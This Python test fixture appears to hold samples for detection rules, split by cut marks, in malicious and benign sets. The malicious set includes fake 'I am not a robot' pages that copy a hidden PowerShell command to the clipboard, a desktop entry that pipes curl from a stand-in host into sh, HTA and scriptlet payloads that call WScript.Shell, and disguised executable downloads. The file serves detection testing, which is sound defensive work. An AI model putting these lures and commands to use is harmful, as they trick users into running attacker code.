"""Samples of shortcuts and pages, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-HTA-0006": [
        joined("a.href = URL.createO¦bjectURL(new Blob([new Uint8Array([77, 90])])); a.download = 'invoice.e¦xe'"),
        joined("showSaveFile¦Picker({suggestedName: 'report.l¦nk'}).then(f); new Uint8Array(9)"),
    ],
    "RG-HTA-0007": [
        joined(
            "<p>To verify that you are human: Win + R, then Ctrl + ¦V and Enter.</p>"
            "<script>navigator.clip¦board.writeText(['a', 'b'].join(''))</script>"
        ),
        joined(
            "<p>ロボットではありません: 「ファイル名を指定して実行」で Ctrl+¦V</p>"
            "<script>e.clipboard¦Data.setData('text/plain', c)</script>"
        ),
    ],
    "RG-LNK-0004": [
        joined("[Internet¦Shortcut]\r\nURL=https://example.org/\r\nIconFil¦e=\\\\1¦9¦2.0.2.1\\share\\a.ico\r\n"),
        joined("<libraryD¦escription><ur¦l>\\\\192.0.2.1\\share</url></libraryDescription>"),
    ],
    "RG-LNK-0005": [
        joined('[Deskto¦p Entry]\nName=x\nExec=sh -c "cu¦rl -s h¦ttp://x.i¦nvalid/a | sh"\n'),
    ],
    "RG-HTA-0001": [
        joined(
            "<html><hta:app¦lication/><scrip¦t "
            'l¦a¦n¦g¦u¦a¦g¦e="vbscript">CreateObject("WSc'
            '¦r¦ip¦t.Shell").R¦un "po¦wer¦shell -c x"</script></html>'
        ),
    ],
    "RG-HTA-0002": [
        joined(
            '<html><script>var d = "UEsD¦B§b800§"; var b '
            "= new Blob([at¦ob(d)]); a.href = "
            'URL.createOb¦jectURL(b); a.down¦load = "x.zip"; a.cl¦ick();</script></html>'
        ),
    ],
    "RG-HTA-0003": [
        joined(
            "<p>I am not a r¦obot: press Windo¦ws + R, "
            "then paste.</p><script>navigator.clipboa¦rd."
            'w¦riteText("power¦shell -w¦ h¦idden -c ie¦x x")</script>'
        ),
    ],
    "RG-HTA-0004": [
        joined(
            '<?XML v¦ersion="1.0"?><scri¦ptlet><regis¦tra'
            'tion progid="x"><script>new '
            'A¦ctive¦XObject("WSc¦r¦ip¦t.Shell").R¦u¦n("c'
            'm¦d /c x")</script></registration></scriptlet>'
        ),
    ],
    "RG-HTA-0005": [
        joined(
            "<styl¦esheet><ms:s¦cript "
            'language="JScript">new '
            'Active¦XObject("WSc¦r¦ip¦t.Shell").R¦un("x")</ms:script></stylesheet>'
        ),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-HTA-0006": [
        b"a.href = URL.createObjectURL(new Blob([new Uint8Array(bytes)])); a.download = 'report.csv'",
        b"a.href = URL.createObjectURL(new Blob([text])); a.download = 'script.j\x73'",
    ],
    "RG-HTA-0007": [
        b"<p>Press Ctrl + \x56 to paste.</p><script>navigator.clipboard.writeText(code)</script> verification",
        b"<p>Open the Run dialog (Win + R) and type the name.</p> Ctrl+\x56 captcha",
    ],
    "RG-LNK-0004": [
        joined("[Internet¦Shortcut]\r\nURL=https://example.org/\r\nIconFile=C:\\Windows\\a.ico\r\n"),
    ],
    "RG-LNK-0005": [
        joined('[Deskto¦p Entry]\nName=x\nExec=sh -c "cd /opt/x && ./run"\n'),
    ],
    "RG-HTA-0001": [
        joined('<html><hta:app¦lication/><scrip¦t l¦a¦n¦g¦u¦a¦g¦e="vbscript">MsgBox "hello"</script></html>'),
        joined('<scrip¦t l¦a¦n¦g¦u¦a¦g¦e="vbscript">CreateObject("WSc¦r¦ip¦t.Shell").R¦un "notepad"</script>'),
    ],
    "RG-HTA-0002": [
        joined(
            '<html><script>var d = "iVBORw0KGgo§b800§"; '
            "var b = new Blob([at¦ob(d)]); a.href = "
            "URL.createOb¦jectURL(b); a.cl¦ick();</script></html>"
        ),
    ],
    "RG-HTA-0003": [
        joined(
            "<p>Copy the command:</p><script>navigator.cl"
            'ipboa¦rd.w¦riteText("power¦shell -c i¦rm https://example.org/install.ps1")</script>'
        ),
    ],
    "RG-HTA-0004": [
        joined(
            '<?XML v¦ersion="1.0"?><scri¦ptlet><regis¦tra'
            'tion progid="x"><script>function add(a, b) { return a + b; '
            "}</script></registration></scriptlet>"
        ),
    ],
    "RG-HTA-0005": [
        joined(
            '<xsl:st¦ylesheet><msxs¦l:script language="C#">public int f() { return 1; }</msxsl:script></xsl:stylesheet>'
        ),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
